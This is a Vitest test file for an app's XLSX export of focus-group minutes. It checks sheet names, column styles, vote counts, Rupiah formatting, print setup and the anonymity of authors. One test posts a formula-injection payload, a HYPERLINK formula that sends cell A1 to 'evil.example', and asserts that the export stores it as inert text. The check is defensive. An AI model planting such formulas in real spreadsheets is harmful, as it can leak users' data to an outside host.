import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { beforeAll, describe, expect, it } from 'vitest';
import { facilitatedFgd, newFgd, sampleFgd } from '$lib/testing/fgd';
import { buildMinutes, type Minutes } from './model';
import { renderXlsx } from './xlsx';

const NOW = new Date('2025-10-24T04:30:00Z');

/** Sheet name → its XML, with shared strings resolved into the cells. */
async function openXlsx(buffer: Buffer): Promise<Map<string, string>> {
	const zip = await JSZip.loadAsync(buffer);
	const read = (path: string) => zip.file(path)!.async('string');
	const shared = [...(await read('xl/sharedStrings.xml')).matchAll(/<si>([\s\S]*?)<\/si>/g)].map((m) =>
		[...m[1].matchAll(/<t[^>]*>([\s\S]*?)<\/t>/g)].map((t) => t[1]).join('')
	);
	const book = await read('xl/workbook.xml');
	const sheets = new Map<string, string>();
	for (const [i, m] of [...book.matchAll(/<sheet [^>]*name="([^"]+)"/g)].entries()) {
		const xml = await read(`xl/worksheets/sheet${i + 1}.xml`);
		sheets.set(m[1], xml.replace(/<c ([^>]*)t="s"([^>]*)><v>(\d+)<\/v><\/c>/g, (_, a, b, n) => `<c ${a}${b}><is>${shared[Number(n)]}</is></c>`));
	}
	return sheets;
}

/** The rows of a sheet as arrays of cell texts. */
function rows(xml: string): string[][] {
	return [...xml.matchAll(/<row [^>]*>([\s\S]*?)<\/row>/g)].map((r) =>
		[...r[1].matchAll(/<c [^>]*?(?:\/>|>([\s\S]*?)<\/c>)/g)].map((c) => decode((c[1] ?? '').replace(/<[^>]+>/g, '')))
	);
}

const ENTITIES: Record<string, string> = { amp: '&', lt: '<', gt: '>', quot: '"', apos: "'" };
const decode = (xml: string) => xml.replace(/&(\w+);/g, (_, name: string) => ENTITIES[name] ?? `&${name};`);

async function loadBook(buffer: Buffer): Promise<ExcelJS.Workbook> {
	const book = new ExcelJS.Workbook();
	await book.xlsx.load(buffer as unknown as ArrayBuffer);
	return book;
}

let fgd: Awaited<ReturnType<typeof facilitatedFgd>>;
let id: Minutes;
let en: Minutes;
let book: Map<string, string>;

beforeAll(async () => {
	fgd = await facilitatedFgd();
	id = await buildMinutes(fgd.db, fgd.session.id, 'id', NOW);
	en = await buildMinutes(fgd.db, fgd.session.id, 'en', NOW);
	book = await openXlsx(await renderXlsx(id));
});

describe('text cells', () => {
	it('keeps posted formulas as typed, in string cells, without a guard quote', async () => {
		const small = await sampleFgd();
		const ani = await small.join('Ani', 'media', 'Radio Contoh');
		await small.post(ani, 'kendala', '=HYPERLINK("http://evil.example/?d="&A1,"klik")');
		await small.post(ani, 'kendala', '-5% bunga untuk UMKM');
		await small.post(ani, 'kendala', '+62 812 3456 7890 hubungi');
		const book = await loadBook(await renderXlsx(await buildMinutes(small.db, small.session.id, 'id', NOW)));
		const cells = book.getWorksheet('Masukan')!.getColumn(4).values.filter((v) => v !== undefined && v !== null);
		expect(cells).toContain('=HYPERLINK("http://evil.example/?d="&A1,"klik")');
		expect(cells).toContain('-5% bunga untuk UMKM');
		expect(cells).toContain('+62 81x xxxx xx90 hubungi');
		for (const sheet of book.worksheets)
			sheet.eachRow((row) =>
				row.eachCell((cell) => {
					expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
					if (typeof cell.value === 'string') expect(cell.value.startsWith("'"), `${sheet.name}!${cell.address}`).toBe(false);
				})
			);
	});
});

describe('XLSX', () => {
	it('has one sheet per part, named in the minutes language', async () => {
		expect([...book.keys()]).toEqual(['Rincian', 'Daftar hadir', 'Masukan', 'Suara per unsur', 'Tema', 'Keterkaitan', 'Rencana tindak lanjut']);
		const english = await openXlsx(await renderXlsx(en));
		expect([...english.keys()]).toEqual(['Details', 'Attendance', 'Contributions', 'Votes by group', 'Themes', 'Links', 'Action plan']);
	});

	it('freezes a bold header row on every sheet and sets column widths', async () => {
		const styles = await JSZip.loadAsync(await renderXlsx(id)).then((z) => z.file('xl/styles.xml')!.async('string'));
		const fonts = [...styles.match(/<fonts[\s\S]*?<\/fonts>/)![0].matchAll(/<font>([\s\S]*?)<\/font>/g)].map((f) => f[1].includes('<b/>'));
		const xfs = [...styles.match(/<cellXfs[\s\S]*?<\/cellXfs>/)![0].matchAll(/<xf [^>]*fontId="(\d+)"/g)].map((x) => Number(x[1]));
		for (const xml of book.values()) {
			expect(xml).toMatch(/<pane [^>]*ySplit="1"[^>]*state="frozen"/);
			expect(xml).toMatch(/<cols><col [^>]*width="\d+/);
			const head = xml.match(/<row r="1"[\s\S]*?<\/row>/)![0];
			const styleIds = [...head.matchAll(/<c [^>]*s="(\d+)"/g)].map((m) => Number(m[1]));
			expect(styleIds.length).toBeGreaterThan(1);
			expect(styleIds.every((s) => fonts[xfs[s]])).toBe(true);
		}
	});

	it('lists the attendance with an empty signature column', async () => {
		const people = rows(book.get('Daftar hadir')!);
		expect(people[0]).toEqual(['No', 'Nama', 'Jabatan', 'Instansi', 'Kelompok', 'L/P', 'Keterangan', 'Tanda tangan']);
		expect(people).toHaveLength(id.attendance.total + 1);
		expect(book.get('Daftar hadir')).toMatch(/<c r="A2"[^>]*><v>1<\/v>/);
	});

	it('types a known item with its vote count as a number', async () => {
		const xml = book.get('Masukan')!;
		const row = rows(xml).find((r) => r[3] === 'Akses modal usaha sulit tanpa agunan')!;
		// Both contributors of the merged item, and the count of items combined as the console gives it.
		expect(row.slice(6)).toEqual(['4', '0', '2']);
		expect(row[4]).toContain('; Yusuf Hidayat – Kecamatan Loa Kulu');
		expect(xml).toMatch(/<c r="G2"[^>]*><v>4<\/v><\/c>/);
	});

	it('gives each item its support count as a number, under its own header', async () => {
		const supported = { ...id, items: id.items.map((item, i) => (i === 0 ? { ...item, supporters: 5 } : item)) };
		const xml = (await openXlsx(await renderXlsx(supported))).get('Masukan')!;
		expect(rows(xml)[0].slice(6)).toEqual(['Suara', 'Didukung (peserta)', 'Gabungan dari (masukan)']);
		expect(rows(xml)[1][3]).toBe(id.items[0].text);
		expect(xml).toMatch(/<c r="H2"[^>]*><v>5<\/v><\/c>/);
		expect(rows((await openXlsx(await renderXlsx(en))).get('Contributions')!)[0][7]).toBe('Supported by (participants)');
	});

	it('links a recommendation to the constraint it addresses', async () => {
		expect(rows(book.get('Keterkaitan')!)).toContainEqual([
			'Skema kredit lunak berbasis kelompok dengan pendampingan kampus',
			'menjawab',
			'Kendala',
			'Akses modal usaha sulit tanpa agunan'
		]);
	});

	it('carries an action row with its cost as a Rupiah-formatted number', async () => {
		const xml = book.get('Rencana tindak lanjut')!;
		const [head, row] = rows(xml);
		expect(head).toHaveLength(15);
		expect(row).toContain('Pelatihan dan pendampingan akses KUR');
		expect(row).toContain('150000000');
		const styles = await JSZip.loadAsync(await renderXlsx(id)).then((z) => z.file('xl/styles.xml')!.async('string'));
		expect(styles).toContain('formatCode="&quot;Rp&quot; #,##0"');
	});

	it('writes the session start as a date', async () => {
		// 24 Oct 2025 09:00 is Excel serial 45954.375.
		expect(book.get('Rincian')).toMatch(/<c r="B4"[^>]*><v>45954\.375<\/v>/);
	});

	it('keeps an anonymous author out of everything but the attendance list', async () => {
		for (const [name, xml] of book) if (name !== 'Daftar hadir') expect(xml).not.toContain('Rini');
		expect(book.get('Daftar hadir')).toContain('Rini Anggraini');
	});

	it('prints every sheet one page wide with its header row on each page, the wide ones landscape', async () => {
		const sheets = (await loadBook(await renderXlsx(id))).worksheets;
		const landscape = sheets.filter((s) => s.pageSetup.orientation === 'landscape').map((s) => s.name);
		expect(landscape).toEqual(['Daftar hadir', 'Masukan', 'Suara per unsur', 'Keterkaitan', 'Rencana tindak lanjut']);
		for (const sheet of sheets) {
			expect(sheet.pageSetup, sheet.name).toMatchObject({ fitToPage: true, fitToWidth: 1, fitToHeight: 0, printTitlesRow: '1:1' });
		}
		// Excel reads fitToHeight="0" as "as many pages as needed"; left out, it would squeeze the sheet onto one page.
		expect(book.get('Masukan')).toMatch(/<pageSetup [^>]*fitToWidth="1" fitToHeight="0"/);
		expect(book.get('Masukan')).toMatch(/<sheetPr>[\s\S]*<pageSetUpPr fitToPage="1"/);
	});
});

describe('the Tema sheet', () => {
	const themeSheet = async (minutes: Minutes) => {
		const sheet = (await loadBook(await renderXlsx(minutes))).worksheets[4];
		return sheet.getSheetValues().filter(Boolean).map((row) => (row as unknown[]).slice(1));
	};

	it("gives the dots on each theme's contributions when the contributions were voted on", async () => {
		expect(await themeSheet(id)).toEqual([
			['No', 'Tema', 'Jumlah masukan', 'Suara pada masukan'],
			[1, 'Permodalan', 1, 4],
			[2, 'Pemasaran', 1, 3]
		]);
	});

	it('gives the dots on the theme itself when the themes were voted on', async () => {
		const small = await newFgd();
		const ani = await small.join('Ani', 'media', 'Radio Contoh');
		await small.post(ani, 'kendala', 'Modal usaha sulit');
		await small.run('facilitator', { type: 'theme.create', name: 'Permodalan' });
		const theme = await small.db.selectFrom('themes').select('id').where('session_id', '=', small.session.id).executeTakeFirstOrThrow();
		await small.run('facilitator', { type: 'phase.set', phase: 'voting' });
		await small.run('facilitator', { type: 'voting.settings', target: 'themes' });
		await small.run(ani, { type: 'vote.set', targetId: theme.id, count: 3 });
		expect(await themeSheet(await buildMinutes(small.db, small.session.id, 'en', NOW))).toEqual([
			['No', 'Theme', 'Contributions', 'Votes'],
			[1, 'Permodalan', 0, 3]
		]);
	});

	it('has no votes column when nobody voted', async () => {
		const small = await sampleFgd();
		await small.run('facilitator', { type: 'theme.create', name: 'Permodalan' });
		expect((await themeSheet(await buildMinutes(small.db, small.session.id, 'id', NOW)))[0]).toEqual(['No', 'Tema', 'Jumlah masukan']);
	});
});
